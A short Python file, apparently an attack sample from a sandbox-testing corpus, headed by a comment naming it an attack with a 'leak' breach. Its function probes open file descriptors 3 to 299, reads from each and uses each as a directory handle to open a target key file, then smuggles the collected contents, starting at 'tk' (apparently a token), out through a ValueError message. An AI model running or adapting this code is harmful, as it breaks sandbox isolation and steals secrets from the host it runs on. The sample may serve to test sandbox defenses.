# {"attack": "Uses every descriptor that is open to reach files, also as a folder to open others from.", "breach": "leak"}

import os


def double(x):
    told = ""
    for number in range(3, 300):
        for way in (lambda: os.pread(number, 4000, 0), lambda: os.open(TARGETS["key"].lstrip("/"), os.O_RDONLY, dir_fd=number)):
            try:
                got = way()
                told += got.decode("latin-1") if isinstance(got, bytes) else os.read(got, 4000).decode("latin-1")
            except OSError:
                pass
    raise ValueError(told[told.find("tk") :][:900])
